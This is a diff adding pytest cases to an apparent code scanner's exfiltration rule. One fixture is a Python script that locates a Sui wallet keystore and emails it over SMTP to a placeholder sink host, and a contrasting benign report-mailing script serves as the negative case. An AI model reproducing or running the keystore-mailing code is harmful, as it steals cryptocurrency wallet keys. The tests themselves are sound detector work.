@@ -119,3 +119,40 @@ def test_js_spawn_argument_array_carrying_plain_values_does_not_block(tmp_path: 
         'execFile("git", ["commit", "-m", msg]);\n'
     )
     assert blocking(tmp_path, {"tools/fetch.js": js}) == {}
+
+
+# ------------------------------------------------ a helper that returns a credential file's path
+
+
+def test_python_helper_returning_a_wallet_keystore_path_then_mailed_blocks(tmp_path: Path) -> None:
+    py = (
+        "import os, smtplib\n"
+        "from email.message import EmailMessage\n\n"
+        "def keystore():\n"
+        '    p = os.path.expanduser("~/.sui/sui_config/sui.keystore")\n'
+        "    if os.environ.get('SUI_CONFIG_DIR'):\n"
+        "        p = os.path.join(os.environ['SUI_CONFIG_DIR'], 'sui.keystore')\n"
+        "    return p\n\n"
+        "m = EmailMessage()\n"
+        "m['To'] = 'digest@mail.sink.example.test'\n"
+        "m.add_attachment(open(keystore(), 'rb').read(), maintype='application', subtype='json')\n"
+        "with smtplib.SMTP('mail.sink.example.test', 587) as s:\n"
+        "    s.send_message(m)\n"
+    )
+    assert "SY-FLOW-001" in blocking(tmp_path, {"scripts/digest.py": py})
+
+
+def test_python_helper_returning_a_report_path_then_mailed_does_not_block(tmp_path: Path) -> None:
+    py = (
+        "import os, smtplib\n"
+        "from email.message import EmailMessage\n\n"
+        "def report():\n"
+        '    p = os.path.expanduser("~/reports/weekly.csv")\n'
+        "    return p\n\n"
+        "m = EmailMessage()\n"
+        "m['To'] = 'me@mail.example.test'\n"
+        "m.add_attachment(open(report(), 'rb').read(), maintype='text', subtype='csv')\n"
+        "with smtplib.SMTP('mail.example.test', 587) as s:\n"
+        "    s.send_message(m)\n"
+    )
+    assert blocking(tmp_path, {"scripts/digest.py": py}) == {}
